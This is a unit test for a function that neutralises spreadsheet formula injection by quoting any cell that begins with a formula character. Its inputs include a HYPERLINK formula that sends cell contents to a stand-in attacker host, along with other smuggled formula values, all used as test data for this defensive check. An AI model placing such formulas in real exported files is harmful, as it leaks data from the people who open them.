import { describe, expect, it } from 'vitest';
import { spreadsheetText } from './spreadsheet-text.js';

describe('spreadsheetText', () => {
  it("no cell or line starts like a formula, whatever a spreadsheet splits on (',' ';' tab, CR, LF)", () => {
    expect(spreadsheetText('=1+1')).toBe("'=1+1");
    expect(spreadsheetText('pc;=cmd')).toBe("pc;'=cmd");
    expect(spreadsheetText('kms.example\n=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      'kms.example\n\'=HYPERLINK("http://evil.example/?"&A1,"x")',
    );
    expect(spreadsheetText('ok\t=1+1')).toBe("ok\t'=1+1");
    expect(spreadsheetText('a\r\n@x')).toBe("a\r\n'@x");
    // A run of formula characters: each one that could start a cell is guarded.
    expect(spreadsheetText('a\t\t=1')).toBe("a\t'\t'=1");
    expect(spreadsheetText('plain text, 10-20 ok')).toBe('plain text, 10-20 ok');
    for (const text of ['x\n=1', 'x\t+1', 'x\r-1', 'x;@1', 'x,=1', '\n\t=1']) {
      for (const cell of spreadsheetText(text).split(/[;,\t\r\n]/)) expect(cell).not.toMatch(/^[=+\-@]/);
    }
  });
});
